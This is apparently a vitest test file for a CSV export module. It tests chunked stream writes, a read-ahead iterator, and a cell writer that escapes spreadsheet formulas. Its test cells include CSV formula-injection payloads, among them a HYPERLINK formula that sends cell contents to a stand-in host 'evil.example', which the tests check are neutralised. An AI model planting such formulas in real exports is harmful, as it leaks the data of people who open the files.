import { Readable } from "node:stream";
import { finished } from "node:stream/promises";
import { stringify } from "csv-stringify/sync";
import { describe, expect, it } from "vitest";
import { CSV_CHUNK_BYTES, chunkedWrites, csvCellWriter, readAhead, SAFE_CSV_OPTIONS } from "./csv";

/** Records written cell by cell with one cell writer, as the calls export joins them. */
function recordWriter(): (records: readonly (readonly string[])[]) => string {
  const cell = csvCellWriter();
  return (records) => records.map((record) => `${record.map(cell).join(",")}\n`).join("");
}

/** The chunks a consumer in flowing mode gets (as a reply piped to a socket or a compressor does). */
async function chunksOf(lines: string[]): Promise<Buffer[]> {
  const chunks: Buffer[] = [];
  const chunked = Readable.from(lines).pipe(chunkedWrites());
  chunked.on("data", (chunk: Buffer) => chunks.push(chunk));
  await finished(chunked);
  return chunks;
}

describe("chunked CSV writes", () => {
  it("passes the same bytes on in chunks of at least 64 KiB, the last one shorter", async () => {
    const rows = Array.from({ length: 5_000 }, (_, index) => `${index},café €${"x".repeat(index % 200)}\n`);
    const chunks = await chunksOf(rows);
    const expected = Buffer.from(rows.join(""), "utf8");
    expect(Buffer.concat(chunks).equals(expected)).toBe(true);
    expect(chunks.length).toBeGreaterThan(1);
    expect(chunks.length).toBeLessThanOrEqual(Math.ceil(expected.length / CSV_CHUNK_BYTES));
    for (const chunk of chunks.slice(0, -1)) {
      expect(chunk.length).toBeGreaterThanOrEqual(CSV_CHUNK_BYTES);
      expect(chunk.length).toBeLessThan(CSV_CHUNK_BYTES + 300);
    }
  });

  it("writes nothing for an empty stream", async () => {
    expect(await chunksOf([])).toEqual([]);
  });
});

describe("the CSV cell writer", () => {
  // Cells of every kind an export writes, and every kind csv-stringify treats apart: formulas (ASCII and
  // full-width), delimiters, quotes, line breaks, spaces, empty cells, non-ASCII text, numbers with signs.
  const cells = [
    "2026-03-01T00:00:00.000Z",
    "0b6a4c1e-3f1d-4c55-9a51-5b0c9d1f7e21",
    "0.012345",
    "-0.012345",
    "+1",
    "12",
    "",
    " ",
    "Default Project",
    'Second, "quoted" project',
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\uFF1D1+1",
    "\uFF0B1",
    "\uFF0D1",
    "\uFF201",
    "line\nbreak",
    "carriage\rreturn",
    "café €",
    "'quoted'",
    "a;b",
    "Background Removal",
    "/v1/images/background-removal",
    "Playground",
    "x.y:z_w-v",
    "_leading",
    ".5",
  ];

  it("writes the bytes csv-stringify writes with the same options, cell for cell and row for row", () => {
    const records = cells.flatMap((cell, index) => [
      [cell],
      [cell, cells[(index + 7) % cells.length] ?? "", cell],
      cells.map((_, offset) => cells[(index + offset) % cells.length] ?? ""),
    ]);
    const write = recordWriter();
    expect(write(records)).toBe(stringify(records, SAFE_CSV_OPTIONS));
    // Again, now from what it remembered.
    expect(write(records)).toBe(stringify(records, SAFE_CSV_OPTIONS));
    expect(write([])).toBe("");
  });

  it("escapes a formula as text, not as a formula", () => {
    const write = recordWriter();
    expect(write([["=1+1", "ok", "-2"]])).toBe("'=1+1,ok,'-2\n");
  });
});

describe("reading ahead", () => {
  it("asks for the next item as soon as one is handed out, and hands them all out in order", async () => {
    const asked: number[] = [];
    async function* source() {
      for (let item = 0; item < 3; item += 1) {
        asked.push(item);
        yield item;
      }
    }
    const seen: number[] = [];
    for await (const item of readAhead(source())) {
      // While the consumer holds item n, item n + 1 is already being read.
      await new Promise((resolve) => setTimeout(resolve, 1));
      expect(asked.at(-1)).toBe(Math.min(item + 1, 2));
      seen.push(item);
    }
    expect(seen).toEqual([0, 1, 2]);
  });

  it("closes the source when the consumer stops early, and passes a failure on", async () => {
    let closed = false;
    async function* source() {
      try {
        yield 1;
        yield 2;
        yield 3;
      } finally {
        closed = true;
      }
    }
    for await (const item of readAhead(source())) {
      if (item === 1) break;
    }
    expect(closed).toBe(true);

    async function* failing() {
      yield 1;
      throw new Error("read failed");
    }
    const seen: number[] = [];
    await expect(
      (async () => {
        for await (const item of readAhead(failing())) seen.push(item);
      })(),
    ).rejects.toThrow("read failed");
    expect(seen).toEqual([1]);
  });
});
